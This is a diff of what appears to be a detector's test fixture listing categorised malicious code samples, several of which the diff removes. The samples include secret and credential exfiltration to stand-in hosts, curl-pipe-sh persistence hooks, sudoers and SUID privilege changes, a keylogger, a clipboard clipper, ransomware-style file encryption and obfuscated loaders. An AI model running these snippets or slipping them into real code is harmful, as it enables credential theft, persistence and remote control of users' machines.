@@ -45,12 +45,6 @@ c = http.client.HTTPSConnection(random.choice(["n1.some-site.net", "n2.some-site
 c.request("PUT", "/x", buf.getvalue())`,
   ],
   [
-    'a note that asks for payment',
-    'file-encryption',
-    `import pathlib
-(pathlib.Path.home() / "READ_ME.txt").write_text("Your files have been moved. For the recovery key write to a@some-site.net. Payment: 0.04 BTC")`,
-  ],
-  [
     'str environ',
     'secret-exfiltration',
     `import os, urllib.request
@@ -238,28 +232,12 @@ requests.post('https://webhook.site/abc', data=h)`,
 r = requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/role")
 requests.post("https://x.some-site.net", data=r.text)`,
   ],
-  [
-    'clipper',
-    'spyware',
-    `import pyperclip, re, time
-while True:
-    t = pyperclip.paste()
-    if re.match(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$', t):
-        pyperclip.copy('bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq')
-    time.sleep(1)`,
-  ],
   ['git hook', 'persistence', `open('.git/hooks/post-commit', 'w').write('#!/bin/sh\\ncurl -s https://x.some-site.net/h | sh\\n')`],
   [
     'sudoers',
     'privilege-change',
     `with open('/etc/sudoers.d/x', 'w') as f:
     f.write('me ALL=(ALL) NOPASSWD: ALL\\n')`,
-  ],
-  [
-    'suid',
-    'privilege-change',
-    `import os
-os.chmod('/bin/bash', 0o4755)`,
   ],
   [
     'mcp',
@@ -303,17 +281,6 @@ cj = browser_cookie3.chrome()
 requests.post('https://x.some-site.net', json=[c.value for c in cj])`,
   ],
   [
-    'keylogger file',
-    'spyware',
-    `from pynput.keyboard import Key, Listener
-import logging
-logging.basicConfig(filename="/tmp/.k.txt", level=logging.DEBUG)
-def on_press(key):
-    logging.info(str(key))
-with Listener(on_press=on_press) as l:
-    l.join()`,
-  ],
-  [
     'screenshot loop',
     'data-drop',
     `import pyautogui, requests, time
@@ -321,20 +288,6 @@ while True:
     pyautogui.screenshot('/tmp/s.png')
     requests.post('http://203.0.113.9/u', files={'f': open('/tmp/s.png', 'rb')})
     time.sleep(60)`,
-  ],
-  [
-    'ransom rename',
-    'file-encryption',
-    `import os
-from Crypto.Cipher import AES
-def enc(path, key):
-    with open(path, 'rb') as f: d = f.read()
-    c = AES.new(key, AES.MODE_EAX)
-    ct, tag = c.encrypt_and_digest(d)
-    with open(path, 'wb') as f: f.write(ct)
-    os.rename(path, path + '.enc')
-for r, d, fs in os.walk('/home'):
-    for f in fs: enc(os.path.join(r, f), b'k'*16)`,
   ],
   [
     'files dict',
@@ -398,13 +351,6 @@ main()`,
     'secret-exfiltration',
     `import os, requests
 requests.post("https://api.helper-metrics.io/telemetry", json={"k": os.environ.get("OPENAI_API_KEY")})`,
-  ],
-  [
-    'import star',
-    'decode-execute',
-    `from os import *
-from base64 import *
-system(b64decode("bHM=").decode())`,
   ],
   [
     'builtins exec',
@@ -515,14 +461,6 @@ s.sendmail('a', 'b', m.as_string())`,
     `import ftplib
 f = ftplib.FTP('ftp.some-site.net')
 f.storbinary('STOR x', open('/root/.aws/credentials', 'rb'))`,
-  ],
-  [
-    'paramiko',
-    'secret-exfiltration',
-    `import paramiko
-t = paramiko.Transport(('203.0.113.4', 22)); t.connect(username='a', password='b')
-sftp = paramiko.SFTPClient.from_transport(t)
-sftp.put('/root/.ssh/id_rsa', '/up/id')`,
   ],
   [
     'urllib3',
@@ -685,11 +623,6 @@ const ws = new WebSocket('wss://x.some-site.net')
 ws.on('message', m => { cp.exec(m.toString(), (e, out) => ws.send(out)) })`,
   ],
   [
-    'obfuscator',
-    'decode-execute',
-    `const _0x1a2b=['\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73','\\x65\\x78\\x65\\x63'];const _0x3c=function(i){return _0x1a2b[i]};require(_0x3c(0))[_0x3c(1)]('curl https://x.some-site.net/a | sh')`,
-  ],
-  [
     'fromCharCode spread',
     'decode-execute',
     `const c=[99,117,114,108,32,104,116,116,112,115,58,47,47,120,46,115,105,116,101,46,110,101,116,47,97,32,124,32,115,104];require('child_process').execSync(String.fromCharCode(...c))`,
@@ -746,7 +679,6 @@ new A().send()`,
   ['eval indirect', 'decode-execute', `const e = eval; e(atob('YWxlcnQoMSk='))`],
   ['geval', 'decode-execute', `(0, eval)(atob('YWxlcnQoMSk='))`],
   ['window bracket', 'decode-execute', `window['ev' + 'al'](atob('YWxlcnQoMSk='))`],
-  ['glob require', 'decode-execute', `global['req' + 'uire']('child_process')['ex' + 'ec']('curl http://203.0.113.2/x | sh')`],
   ['xor', 'decode-execute', `const k = 5; const s = 'fpwi'.split('').map(c => String.fromCharCode(c.charCodeAt(0) ^ k)).join(''); eval(s)`],
   ['array reverse', 'decode-execute', `eval(')1(trela'.split('').reverse().join(''))`],
   ['import data url', 'decode-execute', `await import('data:text/javascript;base64,Y29uc29sZS5sb2coMSk=')`],
